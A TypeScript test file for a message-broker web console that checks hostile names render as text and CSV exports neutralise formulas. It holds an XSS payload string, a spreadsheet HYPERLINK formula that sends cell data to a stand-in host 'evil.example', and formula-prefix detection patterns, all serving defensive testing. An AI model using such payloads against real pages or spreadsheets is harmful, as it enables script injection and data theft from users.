import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openTab, openTopic, showAs, tailRows } from '../pages/topic.js';
import { Broker } from '../support/broker.js';
import { ConsolePage } from '../support/console-page.js';

/** Names and payloads that contain a script for the page, or a formula for a spreadsheet. */

const script = '<img src=x onerror="window.pulsemqHurt=1"><script>window.pulsemqHurt=1</script>';
const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** The most hostile username that the grammar allows. */
const formulaUser = '-user@evil';

let broker: Broker;
let console: ConsolePage;

beforeAll(async () => {
  broker = await Broker.ready({ keep_last_value: true, description: script });
  await broker.call('POST', '/api/users', { username: formulaUser });
  console = await ConsolePage.loggedIn(broker, { language: 'en', scheme: 'light', size: 'desktop' });
});

afterAll(async () => {
  await console?.close();
  await broker?.stop();
});

/** Asserts that no script ran, no other host was asked, and the content security policy blocked nothing. */
async function expectHarmless(where: string): Promise<void> {
  expect(await console.page.evaluate(() => 'pulsemqHurt' in window), where).toBe(false);
  expect(await console.page.locator('img[src="x"]').count(), where).toBe(0);
  await console.expectSound(where);
}

/** Chooses CSV in the menu of a button, and returns the text of the file that the browser saves. */
async function downloaded(button: string): Promise<string> {
  await console.button(button).click();
  const [file] = await Promise.all([
    console.page.waitForEvent('download'),
    console.page.getByRole('menuitem', { name: 'CSV', exact: true }).click(),
  ]);
  await console.page.getByRole('menu').waitFor({ state: 'detached' });
  return readFileSync(await file.path(), 'utf8').replace(/^\uFEFF/, '');
}

const publish = (topic: string, format: string, data: unknown): Promise<unknown> =>
  broker.call('POST', '/api/publish', { namespace: 'market_data', topic, format, data });

test('a name with markup is refused', async () => {
  const refused = (method: string, path: string, body: object): Promise<unknown> => broker.call(method, path, body);
  await expect(refused('POST', '/api/namespaces', { name: script })).rejects.toThrow('400');
  await expect(refused('POST', '/api/users', { username: script })).rejects.toThrow('400');
  await expect(publish(script, 'string', 'x')).rejects.toThrow('400');
});

describe.each(['string', 'df_msgpack', 'df_pyarrow'])('a payload of %s', (format) => {
  test('is shown as text', async () => {
    const topic = `hostile.${format}`;
    const data = format === 'string' ? JSON.stringify({ note: script }) : [{ note: script, [script]: formula }];
    await publish(topic, format, data);
    await openTopic(console, 'market_data', topic);
    await publish(topic, format, data);
    await tailRows(console).first().click();
    await console.page.locator('#main').getByText('onerror').first().waitFor();
    await expectHarmless(`the tail of ${format}`);
    await showAs(console, 'json');
    await console.page.locator('#main').getByText('onerror').first().waitFor();
    await expectHarmless(`the JSON of ${format}`);
  });
});

test('a table downloaded as CSV has no formula for a spreadsheet', async () => {
  await publish('hostile.sheet', 'df_msgpack', [{ name: formula, '@sum': '+1+1', price: -1.5, tab: '\t=1' }]);
  await openTopic(console, 'market_data', 'hostile.sheet');
  await openTab(console, console.words.topic.tabs.last);
  const [head = '', row = ''] = (await downloaded(console.words.actions.download)).split('\r\n');
  expect(head).toBe(`name,"'@sum",price,tab`);
  expect(row.startsWith(`"'=HYPERLINK(`)).toBe(true);
  expect(row).toContain(`"'+1+1",-1.5,`);
  expect(row).toContain(`"'\t=1"`);
  await expectHarmless('the download');
});

test('the audit log exported as CSV has no formula for a spreadsheet', async () => {
  await expect(
    fetch(`${broker.address}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: formula, password: 'wrong password' }),
    }).then(({ status }) => status),
  ).resolves.toBe(401);
  await console.go('/audit');
  const csv = await downloaded(console.words.audit.export);
  expect(csv).toContain('HYPERLINK');
  const cells = csv.split(/\r?\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
  const running = cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell) && !/^"?-?\d+(\.\d+)?"?,?$/.test(cell));
  expect(running).toEqual([]);
});

test.each(['/users', '/namespaces', '/permissions', '/audit', '/publish', '/'])(
  '%s shows hostile names as text',
  async (path) => {
    await console.go(path);
    await expectHarmless(path);
  },
);
